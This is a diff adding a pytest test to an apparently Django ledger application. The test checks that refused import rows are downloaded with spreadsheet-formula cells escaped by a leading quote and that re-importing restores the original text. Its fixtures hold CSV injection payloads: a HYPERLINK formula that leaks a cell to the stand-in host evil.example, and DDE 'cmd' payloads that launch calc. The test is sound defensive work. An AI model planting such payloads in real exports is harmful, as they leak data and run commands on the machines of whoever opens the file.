@@ -184,6 +184,46 @@ def test_refused_rows_download_fix_and_import_again(client, people, table, djang
     assert (third.entries_recorded, third.already_recorded) == (0, 4)
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
+            "+1+2", "-1+2"]
+NOTES = ["\tlead", "\r=lead", "''already quoted", "=1+1", "plain"]  # in a column not mapped: carried along
+
+
+def test_refused_rows_come_back_escaped_and_read_back_as_they_came(client, people, table,
+                                                                    django_capture_on_commit_callbacks):
+    header = [*HEADER, "=Note"]
+    rows = []
+    for number, (text, note) in enumerate(zip(FORMULAS, NOTES)):
+        row = [*entry(f"F-{number}", 1), note]
+        row[7] = text  # the player: the ledger refuses one a spreadsheet would read as a formula
+        rows.append(row)
+    rows.append([*entry("P-1", 3, "-5.00"), "-5.00"])  # refused (a negative amount): a plain number
+    content = as_csv(rows, header).replace(b"\r=lead", b'"\r=lead"')  # a CR in a cell is quoted
+    received, job = imported(people.compliance, people.marysville, content, django_capture_on_commit_callbacks)
+    assert received.refused == len(rows) and received.entries_recorded == 0, job.result
+    client.force_login(people.compliance)
+    download = b"".join(client.get(f"{PAGES}{received.uuid}/refused.csv").streaming_content).decode()
+    written = list(csv.reader(io.StringIO(download, newline="")))
+    # No cell a spreadsheet would run: each formula-like one (and the header's) has a ' before it; so has one
+    # that began with ' (read as "'already quoted"), so that the escape can be undone.
+    assert written[0] == [*HEADER, "'=Note", "refused because"]
+    cells = [cell for row in written for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert [cell for cell in cells if cell.startswith("-")] == ["-5.00", "-5.00"]  # a plain number stays one
+    for escaped in ("'=cmd|' /C calc'!A0", "'-1+2", "'\tlead", "'\r=lead", "''already quoted", "'=1+1"):
+        assert escaped in cells
+    # Read back by the import, each cell is the text the import read the first time: a fixed row keeps its
+    # content (and so its key).
+    again = imports.receive(people.compliance, people.marysville, upload(download.encode(), "refused.csv"))
+    assert again.header == [*HEADER, "=Note", "refused because"]
+    first = {cells[4]: cells for _, cells, _ in imports.read_rows(received)}
+    assert first["F-2"][-1] == "'already quoted" and first["F-0"][7] == FORMULAS[0]
+    back = list(imports.read_rows(again))
+    assert len(back) == len(rows)
+    for _, cells, _ in back:
+        assert cells[:-1] == first[cells[4]]
+
+
 def test_more_bad_rows_than_the_ledger_names_at_once(people, table, django_capture_on_commit_callbacks):
     rows = []
     for number in range(60):  # every other row bad: more than the 20 the API's refusal names, each refused alone
